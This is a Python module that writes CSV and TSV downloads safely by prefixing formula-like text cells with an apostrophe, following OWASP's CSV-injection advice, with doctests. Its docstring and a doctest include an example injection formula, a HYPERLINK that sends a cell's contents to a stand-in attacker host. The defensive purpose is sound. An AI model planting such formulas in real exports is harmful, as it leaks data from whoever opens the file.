"""Files a person opens in a spreadsheet (the app's CSV and TSV downloads), written so that no cell
runs as a formula.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil.example/?"&A1,"click")``), so
an uploaded or mined text could act on the machine of whoever opens the download. OWASP's advice is
followed: such a cell gets a leading ``'``, which spreadsheets show as nothing and which makes the
cell plain text. Numbers (``-0.25``) are left as they are: a number is never a formula.

Example:
    >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    >>> [spreadsheet_cell(v) for v in ("-0.25", "Hallo", 0.5)]
    ['-0.25', 'Hallo', 0.5]
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


class SpreadsheetWriter:
    """``csv.writer`` whose rows go through :func:`spreadsheet_cell` (``delimiter="\\t"`` for TSV).

    Example:
        >>> import io; out = io.StringIO()
        >>> SpreadsheetWriter(out).writerow(["@SUM(A1)", -1.5]); out.getvalue()
        "'@SUM(A1),-1.5\\r\\n"
    """

    def __init__(self, handle: TextIO, delimiter: str = ","):
        self._writer = csv.writer(handle, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
